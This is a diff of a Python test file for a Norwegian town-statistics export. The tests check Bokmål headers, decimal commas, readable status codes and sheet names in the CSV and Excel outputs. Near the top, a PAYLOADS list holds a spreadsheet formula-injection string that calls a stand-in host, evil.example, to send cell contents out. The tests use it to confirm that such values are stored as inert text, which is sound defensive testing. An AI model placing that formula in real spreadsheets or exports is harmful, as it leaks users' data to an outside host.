@@ -7,10 +7,18 @@ import csv
 import zipfile
 from datetime import UTC, datetime
 
+import yaml
 from openpyxl import load_workbook
 
-from flows.publish.downloads import write_csvs, write_workbook
-from flows.publish.marts import ReportData
+from flows.publish.downloads import (
+    CONTENTS_SHEET,
+    LABELS_FILE,
+    MESSAGES,
+    sheet_names,
+    write_csvs,
+    write_workbook,
+)
+from flows.publish.marts import MARTS, ReportData
 
 PAYLOADS = [
     '=HYPERLINK("http://evil.example/?d="&A1,"Klikk")',
@@ -92,6 +100,10 @@ def _report() -> ReportData:
     )
 
 
+NB = yaml.safe_load((MESSAGES / "nb.yml").read_text(encoding="utf-8"))
+OFFICIAL, SAMPLE = NB["origin_official"], NB["origin_sample"]
+
+
 def _read(path) -> tuple[bytes, list[list[str]]]:
     raw = path.read_bytes()
     with path.open(encoding="utf-8-sig", newline="") as handle:
@@ -118,7 +130,7 @@ def test_xlsx_cells_that_look_like_formulas_are_strings_not_formulas(tmp_path):
         sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
         assert not any(b"<f>" in archive.read(n) for n in sheets)  # no formula element anywhere
     workbook = load_workbook(path)
-    sheet = workbook["town_profile"]
+    sheet = workbook["Byprofil"]
     cells = [row[1] for row in sheet.iter_rows(min_row=2)]
     assert [c.value for c in cells] == PAYLOADS
     assert {c.data_type for c in cells} == {"s"}
@@ -130,9 +142,10 @@ def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
     write_csvs(_report(), tmp_path)
     raw, rows = _read(tmp_path / "fct_indicator_values.csv")
     assert raw.startswith(b"\xef\xbb\xbf")
-    assert raw.split(b"\r\n")[0].count(b";") == 6 and b"," not in raw.split(b"\r\n")[0]
-    assert rows[0] == ["Geografisk kode", "År", "Indikator (id)", "Verdi", "Teller",
+    assert raw.split(b"\r\n")[0].count(b";") == 7 and b"," not in raw.split(b"\r\n")[0]
+    assert rows[0] == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
                        "Skjult (for få svar)", "Opphav"]  # fmt: skip
+    assert rows[1][:2] == ["bodo", "Bodø"]  # the id stays (it is the key), the name beside it
     _, towns = _read(tmp_path / "dim_town.csv")
     assert towns[1] == ["bodo", "Bodø", "1"]
     assert "Bodø".encode() in (tmp_path / "dim_town.csv").read_bytes()
@@ -141,20 +154,22 @@ def test_csv_for_excel_has_bom_semicolons_and_headers_in_bokmaal(tmp_path):
 def test_csv_for_excel_rounds_as_the_report_with_decimal_comma_and_ja_nei(tmp_path):
     write_csvs(_report(), tmp_path)
     raw, rows = _read(tmp_path / "fct_indicator_values.csv")
-    values = {r[2]: r for r in rows[1:]}
-    assert values["births_per_1000"][3:6] == ["9,5", "520", "nei"]
-    assert values["share_age_67_plus"][3:6] == ["0,00", "", "ja"]  # no "-0,00"
-    assert values["population"][3:5] == ["53638", "53638"]
-    assert [r[-1] for r in rows[1:]] == ["official", "sample", "official"]
+    values = {r[3]: r for r in rows[1:]}
+    assert values["births_per_1000"][4:7] == ["9,5", "520", "nei"]
+    assert values["share_age_67_plus"][4:7] == ["0,00", "", "ja"]  # no "-0,00"
+    assert values["population"][4:6] == ["53638", "53638"]
+    assert [r[-1] for r in rows[1:]] == [OFFICIAL, SAMPLE, OFFICIAL]
     for text in (raw.decode("utf-8-sig"), (tmp_path / "town_profile.csv").read_text("utf-8-sig")):
         assert "e-" not in text.lower() and "e+" not in text.lower()
         assert "True" not in text and "False" not in text
     _, profile = _read(tmp_path / "town_profile.csv")
-    assert profile[0][2:6] == ["Folketall", "Folketall, endring 1 år", "Folketall, rangering",
+    assert profile[0][:3] == ["By (id)", "By", "År"]
+    assert profile[0][-1] == "Opphav (svakeste i raden)"  # town_profile: the weakest of the row
+    assert profile[0][3:7] == ["Folketall", "Folketall, endring 1 år", "Folketall, rangering",
                                "Andel 67 år og eldre"]  # fmt: skip
-    assert profile[1][2:6] == ["53638", "1234567890123456", "1", "18,12"]
+    assert profile[1][3:7] == ["53638", "1234567890123456", "1", "18,12"]
     _, loads = _read(tmp_path / "source_loads.csv")
-    assert loads[1][1:3] == ["2026-11-26 13:00:00", "ja"]
+    assert loads[1][1:4] == ["2026-11-26 13:00:00", "ja", OFFICIAL]
 
 
 def test_machine_csv_keeps_ids_and_full_precision(tmp_path):
@@ -178,26 +193,152 @@ def test_xlsx_has_bokmaal_headers_frozen_filters_widths_and_number_formats(tmp_p
     path = tmp_path / "bymonitor.xlsx"
     write_workbook(_report(), path)
     workbook = load_workbook(path)
-    assert workbook.sheetnames[0] == "definisjoner"
+    assert workbook.sheetnames[:2] == ["innhold", "definisjoner"]
     for sheet in workbook.worksheets:
         assert sheet.freeze_panes == "A2", sheet.title
         assert sheet.auto_filter.ref == f"A1:{sheet.cell(1, sheet.max_column).column_letter}" \
             f"{sheet.max_row}", sheet.title  # fmt: skip
         assert all(c.font.bold for c in sheet[1]), sheet.title
-    values = workbook["fct_indicator_values"]
+    values = workbook["Indikatorverdier"]
     header = [c.value for c in values[1]]
-    assert header == ["Geografisk kode", "År", "Indikator (id)", "Verdi", "Teller",
+    assert header == ["Geografisk kode", "Sted", "År", "Indikator (id)", "Verdi", "Teller",
                       "Skjult (for få svar)", "Opphav"]  # fmt: skip
     births = values[2]
-    assert births[3].value == 9.51117009511 and births[3].number_format == "#,##0.0"
-    assert values[3][3].number_format == "#,##0.00" and values[4][3].number_format == "#,##0"
-    assert births[1].value == 2026 and births[1].number_format == "0"  # a year: no separator
-    assert births[5].value == "nei" and values[3][5].value == "ja"
+    assert births[4].value == 9.51117009511 and births[4].number_format == "#,##0.0"
+    assert values[3][4].number_format == "#,##0.00" and values[4][4].number_format == "#,##0"
+    assert births[2].value == 2026 and births[2].number_format == "0"  # a year: no separator
+    assert births[6].value == "nei" and values[3][6].value == "ja"
+    assert births[7].value == OFFICIAL and values[3][7].value == SAMPLE
     assert values.column_dimensions["A"].width >= len("Geografisk kode")
-    assert values.column_dimensions["F"].width >= len("Skjult (for få svar)")
+    assert values.column_dimensions["G"].width >= len("Skjult (for få svar)")
     definitions = workbook["definisjoner"]
     assert [c.value for c in definitions[1]][:3] == ["Indikator (id)", "Navn (bokmål)",
                                                      "Navn (engelsk)"]  # fmt: skip
     assert definitions.max_row == 1 + len(_indicators())
-    loaded = workbook["source_loads"][2][1]
+    assert [c.value for c in definitions[2]][3] == "personer"  # units in words
+    assert [c.value for c in definitions[3]][3] == "per 1000 innbyggere"
+    loaded = workbook["Innlesinger"][2][1]
     assert loaded.value == datetime(2026, 11, 26, 13, 0) and loaded.is_date
+
+
+# ------------------------------------------------------------------------ codes in words
+def _codes() -> ReportData:
+    indicators = [*_indicators(),
+                  {"indicator_id": "survey_mean_agreement__links", "name_nb": "Koblinger",
+                   "unit": "mean_score", "decimals": 2},
+                  {"indicator_id": "survey_share_agree__links", "name_nb": "Koblinger, andel",
+                   "unit": "percent", "decimals": 1}]  # fmt: skip
+    values = [
+        {"geo_level": level, "geo_code": code, "year": 2026, "indicator_id": "births_per_1000",
+         "value": None, "status": status, "origin": origin}
+        for level, code, status, origin in [
+            ("country", "NO", "missing_at_source", "official"),
+            ("county", "18", "no_data", "estimate"),
+            ("region", "Salten", "series_break", "sample"),
+            ("town", "bodo", "suppressed", "official"),
+        ]
+    ]  # fmt: skip
+    survey = [
+        {"wave": 2026, "town_id": "bodo", "item_id": "links", "measure": measure,
+         "value": value, "n": 104, "origin": "official"}
+        for measure, value in [("mean_agreement", 3.4134615), ("share_agree", 50.0),
+                               ("mean_agreement", 3.0), ("share_agree", 49.03846)]
+    ]  # fmt: skip
+    signals = [{"town_id": "bodo", "year": 2026, "rule_id": "r", "years": 3,
+                "magnitude": 1.5, "magnitude_unit": "percentage_points"},
+               {"town_id": "bodo", "year": 2025, "rule_id": "r", "years": 2,
+                "magnitude": 2.0, "magnitude_unit": "per_1000"}]  # fmt: skip
+    population = [{"town_id": "bodo", "town_name": "Bodø", "year": 2026,
+                   "value_status": "not_available", "origin": "official"}]  # fmt: skip
+    return ReportData(marts={
+        "dim_town": [{"town_id": "bodo", "town_name": "Bodø", "sort_order": 1}],
+        "dim_indicator": indicators, "fct_indicator_values": values,
+        "survey_town_summary": survey, "town_signals": signals, "town_population": population,
+    })  # fmt: skip
+
+
+def _dicts(path) -> list[dict]:
+    _, rows = _read(path)
+    return [dict(zip(rows[0], row, strict=True)) for row in rows[1:]]
+
+
+def test_codes_are_words_in_the_files_for_people_and_ids_in_the_machine_files(tmp_path):
+    write_csvs(_codes(), tmp_path)
+    values = _dicts(tmp_path / "fct_indicator_values.csv")
+    assert [r["Geografisk nivå"] for r in values] == ["land", "fylke", "region", "by"]
+    assert [r["Sted"] for r in values] == ["Norge", "Nordland", "Salten", "Bodø"]
+    assert [r["Geografisk kode"] for r in values] == ["NO", "18", "Salten", "bodo"]
+    statuses = ["mangler hos kilden", "ingen tall", "brudd i serien", "skjermet (under 5 svar)"]
+    assert [r["Status"] for r in values] == statuses
+    assert [r["Opphav"] for r in values] == [OFFICIAL, NB["origin_estimate"], SAMPLE, OFFICIAL]
+    survey = _dicts(tmp_path / "survey_town_summary.csv")
+    assert survey[0]["Mål"] == "gjennomsnittlig enighet (1–5)"
+    assert survey[1]["Mål"] == "andel enige (4–5)"
+    assert survey[0]["By"] == "Bodø" and survey[0]["By (id)"] == "bodo"
+    assert survey[0]["Opphav"] == NB["origin_people_official"]  # the county's own data
+    signals = _dicts(tmp_path / "town_signals.csv")
+    assert [r["Enhet for størrelse"] for r in signals] == ["prosentpoeng", "per 1000 innbyggere"]
+    population = _dicts(tmp_path / "town_population.csv")
+    assert population[0]["Status for tallet"] == "tall mangler (..)"
+    machine = (tmp_path / "machine" / "fct_indicator_values.csv").read_text(encoding="utf-8")
+    assert machine.splitlines()[0].split(",")[:2] == ["geo_level", "geo_code"]
+    for code in ("country", "missing_at_source", "series_break", "official", "estimate"):
+        assert code in machine
+    cells = {cell for p in tmp_path.glob("*.csv") for row in _read(p)[1] for cell in row}
+    for code in ("missing_at_source", "no_data", "series_break", "not_available", "country",
+                 "official", "estimate", "mean_agreement", "share_agree", "percentage_points",
+                 "per_1000"):  # fmt: skip
+        assert code not in cells, code
+
+
+def test_survey_values_are_rounded_by_their_measure_in_every_row(tmp_path):
+    write_csvs(_codes(), tmp_path)
+    survey = _dicts(tmp_path / "survey_town_summary.csv")
+    # mean agreement with two decimals, shares with one, also where the value is whole
+    assert [r["Verdi"] for r in survey] == ["3,41", "50,0", "3,00", "49,0"]
+    signals = _dicts(tmp_path / "town_signals.csv")
+    assert [r["Størrelse"] for r in signals] == ["1,5", "2,0"]  # one rule for the column
+    path = tmp_path / "bymonitor.xlsx"
+    write_workbook(_codes(), path)
+    sheet = load_workbook(path)["Undersøkelsen per by"]
+    header = [c.value for c in sheet[1]]
+    column = header.index("Verdi")
+    formats = [row[column].number_format for row in sheet.iter_rows(min_row=2)]
+    assert formats == ["#,##0.00", "#,##0.0", "#,##0.00", "#,##0.0"]
+
+
+def test_no_file_for_people_has_two_equal_headers(tmp_path):
+    labels = yaml.safe_load(LABELS_FILE.read_text(encoding="utf-8"))
+    plain = {k: v for k, v in labels.items() if "." not in k}
+    seen: dict[str, str] = {}
+    for column, label in plain.items():
+        assert label not in seen, f"{column} and {seen.get(label)} are both headed {label!r}"
+        seen[label] = column
+    write_csvs(_codes(), tmp_path)
+    write_csvs(_report(), tmp_path)
+    for path in tmp_path.glob("*.csv"):
+        _, rows = _read(path)
+        assert len(set(rows[0])) == len(rows[0]), (path.name, rows[0])
+    _, signals = _read(tmp_path / "town_signals.csv")
+    assert "År" in signals[0] and "Antall år" in signals[0]
+
+
+def test_sheet_names_are_bokmaal_unique_short_and_listed_with_their_mart(tmp_path):
+    names = sheet_names(list(MARTS))
+    assert set(names) == set(MARTS)
+    assert all(len(n) <= 31 for n in names.values())
+    assert len({n.lower() for n in names.values()} | {"innhold", "definisjoner"}) == len(MARTS) + 2
+    assert not set(names.values()) & set(MARTS)  # no sheet named by its mart id
+    long = sheet_names(["a" * 40, "a" * 40 + "b"])
+    assert len(set(long.values())) == 2 and all(len(n) <= 31 for n in long.values())
+    path = tmp_path / "bymonitor.xlsx"
+    write_workbook(_codes(), path)
+    workbook = load_workbook(path)
+    contents = [[c.value for c in row] for row in workbook[CONTENTS_SHEET].iter_rows()]
+    assert contents[0] == ["Ark", "Tabell i datamodellen (id)", "Rader"]
+    listed = {row[1]: row[0] for row in contents[1:]}
+    assert set(listed) == set(_codes().marts)
+    assert all(sheet in workbook.sheetnames for sheet in listed.values())
+    assert listed["fct_indicator_values"] == "Indikatorverdier"
+    rows = [[c.value for c in r] for r in workbook["Indikatorverdier"].iter_rows()]
+    assert rows[1][:3] == ["land", "NO", "Norge"]
